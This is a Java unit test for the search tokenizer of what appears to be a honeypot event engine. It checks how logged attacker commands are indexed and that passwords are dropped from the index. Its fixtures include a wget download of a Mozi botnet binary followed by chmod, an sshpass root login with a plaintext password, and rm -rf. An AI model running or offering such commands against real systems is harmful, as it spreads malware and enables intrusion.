package org.decnet.engine.search;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.decnet.model.event.Event;
import org.decnet.model.event.EventIds;
import org.decnet.model.event.EventKind;
import org.decnet.model.event.Field;
import org.junit.jupiter.api.Test;

class SearchTextTest {
  private static List<String> terms(String text) {
    return SearchText.of(text).terms().stream()
        .map(term -> term.text() + (term.isPrefix() ? "*" : ""))
        .toList();
  }

  private static List<String> terms(Event event) {
    return Arrays.asList(EventTerms.of(event, null).split(" "));
  }

  private static Event typed(String line) {
    return Event.builder(EventKind.COMMAND)
        .id(EventIds.ofRecord("web-1", "test", line))
        .time(Instant.EPOCH)
        .set(Field.SENSOR, "web-1")
        .set(Field.SOURCE, "test")
        .set(Field.COMMAND_TEXT, line)
        .build();
  }

  @Test
  void wordsAreRunsAndWhatJoinsThem() {
    assertThat(terms("GET /a/x.sh")).containsExactly("w0get", "w0a", "w0xz2exsh");
    assertThat(terms("rm -rf ./a_b")).containsExactly("w0rm", "w0rf", "w0az5fxb");
    assertThat(terms("a.b. .c")).containsExactly("w0az2exb", "w0c");
    assertThat(terms("a..b")).containsExactly("w0a", "w0b");
  }

  @Test
  void aStarOpensTheWordBeforeIt() {
    assertThat(terms("moz* 203.0.*")).containsExactly("w0mozz*", "w0203z2ex0z2ex*");
    assertThat(terms("a *")).containsExactly("w0a");
    assertThat(terms("*a")).containsExactly("w0a");
  }

  @Test
  void onlyLettersAndDigitsReachADatabase() {
    for (String text : List.of("\u00e9\u0000\u202e\ud83d\ude00", "a\"b'c;d", "\ud800", "zZ")) {
      for (Term term : SearchText.of(text).terms()) {
        assertThat(term.text()).matches("w0[a-z0-9]+");
      }
    }
    assertThat(terms("zz")).as("differs from what stands for another").isNotEqualTo(terms("z7ax"));
  }

  @Test
  void longWordsAreToldApartByTheirHashAndFoundByTheirBeginning() {
    String a = "a".repeat(500);
    Term whole = SearchText.of(a + "b").terms().getFirst();

    assertThat(whole.text()).hasSize(Term.LONGEST);
    assertThat(whole).isNotEqualTo(SearchText.of(a + "c").terms().getFirst());
    assertThat(whole.text()).startsWith(SearchText.of(a + "*").terms().getFirst().text());
  }

  @Test
  void atMostSoManyWordsAreLookedForAndIndexed() {
    StringBuilder many = new StringBuilder();
    for (int i = 0; i < 10_000; i++) {
      many.append(i).append(' ');
    }
    assertThat(terms(many.toString())).hasSize(SearchText.MOST);
    assertThat(terms(typed(many.toString()))).hasSize(EventTerms.MOST);
  }

  @Test
  void anEventHasTheWordsOfItsLineWithoutTheSecrets() {
    List<String> terms = terms(typed("sshpass -p hunter2 ssh root@198.51.100.7"));

    assertThat(terms)
        .contains("d0webz2dx1", "w0sshpass", "w0198", "w0198z2ex51z2ex100z2ex7", "w0root")
        .doesNotContain("w0hunter2");
    assertThat(terms).doesNotHaveDuplicates();
  }

  @Test
  void whatIsFoundIsWhatIsIndexed() {
    String line = "wget http://203.0.113.80/Bins/Mozi.arm7; chmod 0777 ./x-1_y.z";
    List<String> indexed = terms(typed(line));

    assertThat(indexed).containsAll(terms(line));
    for (String word : List.of("203", "arm7", "x", "1", "z", "x-1_y.z", "bins/mozi.arm7")) {
      assertThat(indexed).as(word).containsAll(terms(word));
    }
  }
}
